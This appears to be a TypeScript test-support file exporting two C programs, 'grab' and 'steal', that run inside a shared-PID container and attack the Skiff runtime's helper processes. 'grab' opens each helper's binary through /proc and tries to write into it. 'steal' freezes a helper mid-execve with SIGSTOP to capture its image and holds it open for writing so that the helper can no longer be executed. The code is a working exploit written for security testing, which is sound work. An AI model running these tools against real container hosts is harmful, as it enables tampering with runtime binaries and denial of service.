// The attack tools of test/integration/helper-images.test.ts, as C sources the test compiles
// and puts in an image: they run inside a container of a shared-PID pod and go after the Skiff
// helpers they see there.
/**
 * grab SECONDS: polls /proc; for each new process whose comm or exe names a Skiff helper prints
 * "seen pid= comm= exe= cmdline=", then "handle pid= exe=" when /proc/<pid>/exe opened on a
 * helper's image (one handle per file) or "denied pid= errno=" when it did not open; keeps
 * reopening each handle for writing (O_APPEND: the binary would still run) until that is no
 * longer ETXTBSY, then prints "write exe= ok" or "write exe= errno=N".
 */
export const GRAB_C = `
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#define MAX_HANDLES 32
struct handle { int fd; dev_t dev; ino_t ino; char link[256]; int done; };
static struct handle handles[MAX_HANDLES];
static int nhandles;
static unsigned char seen[4194304 / 8 + 1];
static size_t slurp(const char *path, char *buf, size_t cap) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t n;
  if (fd < 0) return 0;
  n = read(fd, buf, cap - 1);
  close(fd);
  if (n < 0) n = 0;
  buf[n] = 0;
  return (size_t)n;
}
static void look(int pid) {
  char path[64], comm[64], link[256] = "", cmd[4096];
  size_t n;
  int fd, err;
  struct stat st;
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  slurp(path, comm, sizeof comm);
  comm[strcspn(comm, "\\n")] = 0;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  err = errno;
  if (fd >= 0) {
    char self[64];
    ssize_t l;
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    l = readlink(self, link, sizeof link - 1);
    link[l > 0 ? l : 0] = 0;
  }
  if (strncmp(comm, "skiff-", 6) && !strstr(link, "skiff-")) {
    if (fd >= 0) close(fd);
    return;
  }
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  n = slurp(path, cmd, sizeof cmd);
  for (size_t i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
  printf("seen pid=%d comm=%s exe=%s cmdline=%s\\n", pid, comm, fd >= 0 ? link : "-", cmd);
  if (fd < 0) {
    printf("denied pid=%d errno=%d\\n", pid, err);
    return;
  }
  /* Only a helper's own image: the process may have exec'd its command since comm was read. */
  if (!strstr(link, "skiff-") || fstat(fd, &st) < 0 || nhandles == MAX_HANDLES) { close(fd); return; }
  for (int i = 0; i < nhandles; i++)
    if (handles[i].dev == st.st_dev && handles[i].ino == st.st_ino) { close(fd); return; }
  handles[nhandles] = (struct handle){ fd, st.st_dev, st.st_ino, "", 0 };
  strcpy(handles[nhandles].link, link);
  nhandles++;
  printf("handle pid=%d exe=%s\\n", pid, link);
}
static void try_writes(void) {
  static const char mark[] = "\\nskiff-grab-was-here\\n";
  for (int i = 0; i < nhandles; i++) {
    struct handle *h = &handles[i];
    char self[64];
    int w;
    if (h->done) continue;
    snprintf(self, sizeof self, "/proc/self/fd/%d", h->fd);
    w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w < 0 && errno == ETXTBSY) continue;
    if (w < 0) printf("write exe=%s errno=%d\\n", h->link, errno);
    else if (write(w, mark, sizeof mark - 1) < 0) printf("write exe=%s errno=%d\\n", h->link, errno);
    else printf("write exe=%s ok\\n", h->link);
    if (w >= 0) close(w);
    h->done = 1;
  }
}
int main(int argc, char **argv) {
  int self = getpid(), procfd;
  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 60);
  static char buf[65536];
  setvbuf(stdout, NULL, _IOLBF, 0);
  procfd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (procfd < 0) { perror("open /proc"); return 1; }
  printf("ready pid=%d\\n", self);
  while (time(NULL) < end) {
    long n;
    lseek(procfd, 0, SEEK_SET);
    while ((n = syscall(SYS_getdents64, procfd, buf, sizeof buf)) > 0) {
      for (long off = 0; off < n;) {
        unsigned short reclen = *(unsigned short *)(buf + off + 16);
        const char *name = buf + off + 19;
        char *e;
        long pid = strtol(name, &e, 10);
        off += reclen;
        if (*e || pid <= 0 || pid > 4194304 || pid == self || (seen[pid / 8] & (1 << (pid % 8)))) continue;
        seen[pid / 8] |= 1 << (pid % 8);
        look((int)pid);
      }
    }
    try_writes();
  }
  printf("done\\n");
  return 0;
}
`;
/**
 * steal SECONDS: needs no capability and no root. Watches /proc for skiff-init processes of its pid
 * namespace and steps each with SIGSTOP / SIGCONT, trying /proc/<pid>/exe at every stop. A
 * skiff-init whose command is /proc/self/exe runs the helper's image once more, dumpable from that
 * execve until its main() calls prctl: a SIGSTOP that arrives during the execve stops it right
 * there. With the image in hand it reopens it O_WRONLY (every write fails, the seals hold, but the
 * open counts as a writer, and the kernel refuses to execute a file open for writing: ETXTBSY) and
 * keeps that fd. Prints "stolen pid= exe=" and "writer held exe=" (or "writer exe= errno=").
 */
export const STEAL_C = `
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
static unsigned char seen[4194304 / 8 + 1];
static int stolen = -1, writer = -1;
static char stolen_link[256];
static char state_of(int pid) {
  char path[64], buf[512], *p;
  int fd;
  ssize_t n;
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0) return 0;
  n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 0;
  buf[n] = 0;
  p = strrchr(buf, ')');
  return p && p[1] ? p[2] : 0;
}
/* One step of pid: stop it, try its exe, let it go on. 0: done with pid (stolen, gone, or it runs
 * its command); 1: try again (EPERM: it still runs as root and we do not, it turns into the
 * exec's user soon; or its exe is not ours to open yet). */
static int step(int pid) {
  char path[64], self[64], link[256], s;
  int spins = 0, fd;
  ssize_t l;
  if (kill(pid, SIGSTOP) < 0) return errno == EPERM ? 1 : 0;
  while ((s = state_of(pid)) && s != 'T' && s != 't' && s != 'Z' && spins++ < 200000) {}
  if (!s || s == 'Z') return 0;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  kill(pid, SIGCONT);
  if (fd < 0) return 1;
  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
  l = readlink(self, link, sizeof link - 1);
  link[l > 0 ? l : 0] = 0;
  if (strstr(link, "skiff-") && stolen < 0) {
    stolen = fd;
    strcpy(stolen_link, link);
    printf("stolen pid=%d exe=%s\\n", pid, link);
    return 0;
  }
  close(fd);
  return strstr(link, "skiff-") ? 1 : 0; /* not skiff's: it runs its command, too late */
}
#define MAX_WATCHED 64
static int watched[MAX_WATCHED], nwatched;
int main(int argc, char **argv) {
  int self = getpid(), procfd;
  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 60);
  static char buf[65536];
  setvbuf(stdout, NULL, _IOLBF, 0);
  procfd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (procfd < 0) { perror("open /proc"); return 1; }
  printf("ready pid=%d\\n", self);
  while (time(NULL) < end) {
    long n;
    lseek(procfd, 0, SEEK_SET);
    while ((n = syscall(SYS_getdents64, procfd, buf, sizeof buf)) > 0) {
      for (long off = 0; off < n;) {
        unsigned short reclen = *(unsigned short *)(buf + off + 16);
        const char *name = buf + off + 19;
        char *e, comm[64] = "", path[64];
        long pid = strtol(name, &e, 10);
        int fd;
        off += reclen;
        if (*e || pid <= 0 || pid > 4194304 || pid == self || (seen[pid / 8] & (1 << (pid % 8)))) continue;
        seen[pid / 8] |= 1 << (pid % 8);
        snprintf(path, sizeof path, "/proc/%ld/comm", pid);
        if ((fd = open(path, O_RDONLY | O_CLOEXEC)) >= 0) {
          ssize_t k = read(fd, comm, sizeof comm - 1);
          close(fd);
          comm[k > 0 ? k : 0] = 0;
        }
        /* skiff-init, the exec's reaper and the command it clones (named after the reaper until
         * its execve), and the command once it runs /proc/self/exe ("exe"). Not the pod's init:
         * a SIGSTOP from inside never stops it. */
        if ((strncmp(comm, "skiff-init", 10) == 0 || strncmp(comm, "skiff-exec", 10) == 0 || strcmp(comm, "exe\\n") == 0) &&
            nwatched < MAX_WATCHED)
          watched[nwatched++] = (int)pid;
      }
    }
    /* Round robin: the exec's reaper stays skiff's for the whole exec, its command only until
     * its first instructions. */
    for (int i = 0; i < nwatched;) {
      if (step(watched[i])) i++;
      else watched[i] = watched[--nwatched];
    }
    if (stolen >= 0 && writer == -1) {
      char again[64];
      snprintf(again, sizeof again, "/proc/self/fd/%d", stolen);
      writer = open(again, O_WRONLY | O_CLOEXEC);
      if (writer >= 0) printf("writer held exe=%s\\n", stolen_link);
      else if (errno != ETXTBSY) { printf("writer exe=%s errno=%d\\n", stolen_link, errno); writer = -2; }
      else writer = -1;
    }
    if (!nwatched) usleep(200);
  }
  printf("done\\n");
  return 0;
}
`;
